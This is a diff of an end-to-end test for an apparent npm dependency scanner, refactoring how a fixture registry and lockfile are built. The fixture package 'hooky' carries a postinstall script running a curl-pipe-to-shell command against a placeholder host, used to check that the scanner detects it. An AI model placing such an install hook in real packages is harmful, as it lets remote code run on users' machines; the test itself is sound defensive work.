@@ -5,54 +5,15 @@
  * result replaces it (the finding only the tarball shows). Screenshots go to test-artifacts/e2e/<test>/.
  */
 import { strict as assert } from 'node:assert';
-import * as fs from 'node:fs';
-import * as path from 'node:path';
-import { ScenarioBuilder, tarballPath, type RegistryCorpus } from '../fixtures/registry/corpus';
 import { type FixtureRegistry, startFixtureRegistry } from '../fixtures/registry/server';
 import { type CodeServerSession, makeTempDir, requireE2e, startCodeServer } from '../support/e2e/harness';
+import { hookyCorpus, writeNpmProject } from '../support/e2e/hooky-project';
 import { statusUntil, statusView } from '../support/e2e/status-item';
 import { withinHangGuard } from '../support/wait';
 
-const alice = { name: 'alice', email: 'alice@example.com' };
 const NOW = '2024-06-01T00:00:00Z';
 /** A hang guard, not a timing: each wait ends on a state of the screen; this only stops a run that never gets there. */
 const HANG_GUARD_MS = 90_000;
-
-/** hooky's last release adds a postinstall that runs a new file (the tarball says which); plain is clean. */
-async function buildCorpus(): Promise<RegistryCorpus> {
-  const b = new ScenarioBuilder({ registryKey: null });
-  b.package('hooky')
-    .version('1.0.0', { publishedAt: '2024-01-01T00:00:00Z', publisher: alice })
-    .version('1.0.1', {
-      publishedAt: '2024-03-01T00:00:00Z',
-      publisher: alice,
-      scripts: { postinstall: 'node setup.js' },
-      files: { 'setup.js': "require('child_process').exec('curl https://x.example/a | sh')\n" },
-    });
-  b.package('plain').version('3.0.0', { publishedAt: '2024-01-01T00:00:00Z', publisher: alice });
-  return b.build();
-}
-
-const LOCKED = { hooky: '1.0.1', plain: '3.0.0' };
-
-function writeNpmProject(dir: string, corpus: RegistryCorpus, registryUrl: string): void {
-  const dependencies = Object.fromEntries(Object.entries(LOCKED).map(([n, v]) => [n, `^${v}`]));
-  const packages: Record<string, unknown> = { '': { name: 'app', version: '1.0.0', dependencies } };
-  for (const [name, version] of Object.entries(LOCKED)) {
-    const doc = corpus.packuments.get(name)!.versions[version];
-    packages[`node_modules/${name}`] = {
-      version,
-      resolved: `${registryUrl}${tarballPath(name, version).slice(1)}`,
-      integrity: doc.dist.integrity,
-      ...(doc.hasInstallScript ? { hasInstallScript: true } : {}),
-    };
-  }
-  fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: 'app', version: '1.0.0', dependencies }, null, 2) + '\n');
-  fs.writeFileSync(
-    path.join(dir, 'package-lock.json'),
-    JSON.stringify({ name: 'app', version: '1.0.0', lockfileVersion: 3, requires: true, packages }, null, 2) + '\n',
-  );
-}
 
 describe('e2e: results before the tarballs are analysed, pending said so', function () {
   this.timeout(300_000);
@@ -62,7 +23,8 @@ describe('e2e: results before the tarballs are analysed, pending said so', funct
 
   before(async function () {
     requireE2e(this);
-    const corpus = await buildCorpus();
+    // hooky's new postinstall runs a file that starts a process and reaches the network: only its tarball says so.
+    const corpus = await hookyCorpus("require('child_process').exec('curl https://x.example/a | sh')\n");
     // Every tarball is held until the test lets them go: the scan's early result is a state, not a moment.
     const held = new Promise<void>((resolve) => (release = resolve));
     registry = await startFixtureRegistry(corpus, { faults: [{ match: /\.tgz$/, action: { until: held } }] });
